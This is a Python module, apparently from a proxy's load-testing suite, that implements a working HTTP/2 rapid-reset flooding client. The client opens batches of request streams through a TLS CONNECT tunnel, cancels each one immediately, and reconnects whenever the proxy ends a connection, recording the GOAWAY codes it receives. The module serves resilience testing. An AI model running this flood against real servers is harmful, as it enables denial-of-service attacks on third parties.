"""The hostile side of the HTTP/2 rapid-reset run (h2_flood.py): the flooding client and where it runs.

``HostileH2`` sends request-then-reset pairs over HTTP/2 inside a proxy's CONNECT tunnel with
TLS, in batches of ``BATCH``, and opens a new connection whenever the proxy ends one;
``FloodStats`` counts what it sent and how each connection ended (``ENHANCE_YOUR_CALM``: the
GOAWAY code the proxy ends a flood with). ``keep_to_cores`` pins the hostile processes and the
measured ones to different cores, so the figures measure the proxy, not the scheduler.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import threading
import time
from collections import Counter
from dataclasses import dataclass, field

from scripts.common import HOST, open_tunnel

BATCH = 50  # streams opened before their resets are sent (below HTTP/2's advertised 100 at once)
ENHANCE_YOUR_CALM = 0xB


def keep_to_cores(hostile: bool, pid: int = 0) -> str:
    """The flood and its upstream stand for other machines: on a machine with 2 cores or more
    they get the last core and the proxy, the other client and its upstream the rest (else the
    figures would measure the scheduler); on one core the hostile side is only niced."""
    cores = sorted(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else []
    if len(cores) < 2:
        if hostile:
            os.nice(10)
        return "one core: the hostile side niced"
    os.sched_setaffinity(pid, {cores[-1]} if hostile else set(cores[:-1]))
    return f"the hostile side on core {cores[-1]}, the proxy and the other client on {cores[:-1]}"


@dataclass
class FloodStats:
    pairs: int = 0  # request-then-reset pairs sent
    connections: int = 0
    goaways: Counter = field(default_factory=Counter)  # error code -> connections ended with it
    refused: int = 0  # streams the proxy refused (RST_STREAM from its side)
    errors: Counter = field(default_factory=Counter)  # connections that ended otherwise, by what happened
    seconds: float = 0.0

    def as_dict(self) -> dict:
        return {"pairs": self.pairs, "connections": self.connections, "goaways": dict(self.goaways),
                "refused": self.refused, "errors": dict(self.errors), "seconds": self.seconds}


class HostileH2:
    """Request-then-reset pairs over HTTP/2 through a proxy's CONNECT tunnel: each stream asks
    ``authority`` for a new /flood URL and is reset (CANCEL) right after; a new connection
    follows whenever the proxy ends one."""

    def __init__(self, proxy_port: int, ca_file: str, authority: str, batch: int = BATCH) -> None:
        self.proxy_port = proxy_port
        self.authority = authority
        self.batch = batch
        self.context = ssl.create_default_context(cafile=ca_file)
        self.context.set_alpn_protocols(["h2"])
        self.stats = FloodStats()

    def run(self, pairs: int, seconds: float, stop: threading.Event | None = None) -> FloodStats:
        started = time.monotonic()
        deadline = started + seconds
        while self.stats.pairs < pairs and time.monotonic() < deadline and not (stop and stop.is_set()):
            self.stats.connections += 1
            try:
                self._connection(pairs, deadline, stop)
            except (OSError, ssl.SSLError, ConnectionError) as exc:
                self.stats.errors[type(exc).__name__] += 1
                time.sleep(0.01)
        self.stats.seconds = time.monotonic() - started
        return self.stats

    def _connection(self, pairs: int, deadline: float, stop: threading.Event | None) -> None:
        import h2.config
        import h2.connection
        import h2.errors

        sock = socket.create_connection((HOST, self.proxy_port), timeout=10)
        with contextlib.closing(sock):
            open_tunnel(sock, self.authority)
            tls = self.context.wrap_socket(sock, server_hostname=self.authority.rsplit(":", 1)[0])
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            tls.sendall(conn.data_to_send())
            tls.setblocking(False)
            while self.stats.pairs < pairs and time.monotonic() < deadline and not (stop and stop.is_set()):
                streams = []
                for _ in range(min(self.batch, pairs - self.stats.pairs)):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, [(":method", "GET"), (":scheme", "https"),
                                               (":authority", self.authority),
                                               (":path", f"/flood?n={self.stats.connections}.{stream}")],
                                      end_stream=True)
                    streams.append(stream)
                try:
                    self._send(tls, conn.data_to_send())
                    for stream in streams:
                        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    self._send(tls, conn.data_to_send())
                except (OSError, ssl.SSLError):  # closed by the proxy: its GOAWAY may still be there to read
                    tls.settimeout(1.0)
                    if not self._ended(tls, conn):
                        raise
                    return
                self.stats.pairs += len(streams)
                if self._ended(tls, conn):
                    return

    def _send(self, tls: ssl.SSLSocket, data: bytes) -> None:
        view = memoryview(data)
        while view:
            try:
                sent = tls.send(view)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                time.sleep(0.0005)
                continue
            view = view[sent:]

    def _ended(self, tls: ssl.SSLSocket, conn) -> bool:
        """Read what the proxy sent; True once it has ended the connection."""
        import h2.events
        import h2.exceptions

        while True:
            try:
                data = tls.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                return False
            except (OSError, ssl.SSLError) as exc:
                self.stats.errors[type(exc).__name__] += 1
                return True
            if not data:
                self.stats.errors["closed without GOAWAY"] += 1
                return True
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                self.stats.errors[type(exc).__name__] += 1
                return True
            for event in events:
                if isinstance(event, h2.events.StreamReset):
                    self.stats.refused += 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    self.stats.goaways[event.error_code] += 1
                    return True

